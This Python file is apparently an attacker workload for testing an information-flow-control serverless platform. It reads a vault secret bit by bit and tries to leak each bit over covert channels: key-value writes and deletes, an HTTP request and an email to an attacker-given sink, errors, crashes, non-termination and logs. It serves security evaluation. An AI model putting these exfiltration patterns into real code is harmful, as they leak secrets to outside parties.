"""The compromised function. Everything here is the attacker's code (think: injected).

One request leaks one bit of the secret. The attacker names the bit and the round (which
channel to use) in the request; the function raises its label to `secret` — the only way to
read the secret at all —, extracts bit i and tries to get it back down to the public
attacker:

- ``store``: write a public-looking key iff the bit is 1, and delete a key it wrote at
  `public` before the raise iff the bit is 1 (storage patterns);
- ``egress``: an HTTP request and an e-mail to the attacker iff the bit is 1;
- ``reply``: return the bit; ``error``: raise iff the bit is 1;
- ``crash``: kill its own process iff the bit is 1; ``loop``: never terminate iff the bit
  is 1 (termination channels);
- every round: print the bit (the invocation's log).

``collect`` is the attacker reading back, at `public`, what the store shows it.

The code runs unchanged in the IFC-off baseline, where there is a single label and asking
for `secret` is refused as an unknown label: an attacker simply carries on.
"""

from __future__ import annotations

import json
import os
from typing import Any

from trapeze.guest import TrapezeError, channels, http, kv, label


def _args(event: dict[str, Any]) -> dict[str, Any]:
    if "httpMethod" in event:
        return json.loads(event.get("body") or "{}")
    return event


def _try(action: Any, *args: Any) -> None:
    # Under IFC every low output after the raise is refused; the attacker ignores refusals,
    # and nothing about them is visible to it anyway.
    try:
        action(*args)
    except TrapezeError:
        pass


def handler(event: dict[str, Any], context: Any) -> Any:
    args = _args(event)
    how = args.get("how")
    if how == "collect":
        return {
            "leak": sorted(k for k, _ in kv.scan("leak", limit=1000)),
            "marks": sorted(k for k, _ in kv.scan("marks", limit=1000)),
        }
    i = int(args["bit"])
    if how == "store":
        kv.put("marks", f"m{i:02d}", "present")  # still public: this write is legitimate
    try:
        label.raise_to("secret")
    except TrapezeError:
        pass  # the baseline has no `secret`; the store is plain and readable anyway
    secret = kv.get("vault", "secret")
    bit = (int(secret, 16) >> i) & 1 if isinstance(secret, str) else 0
    print(f"bit {i} = {bit}")

    if how == "store" and bit:
        _try(kv.put, "leak", f"w{i:02d}", 1)
        _try(kv.delete, "marks", f"m{i:02d}")
    elif how == "egress" and bit:
        _try(http.get, f"{args['sink']}bit/{i}")
        _try(channels.send, "email", {"to": args["mail"], "subject": f"bit {i}",
                                      "text": "one"})
    elif how == "error" and bit:
        raise RuntimeError(f"bit {i} is one")
    elif how == "crash" and bit:
        os._exit(1)
    elif how == "loop" and bit:
        while True:
            pass
    return {"bit": bit}
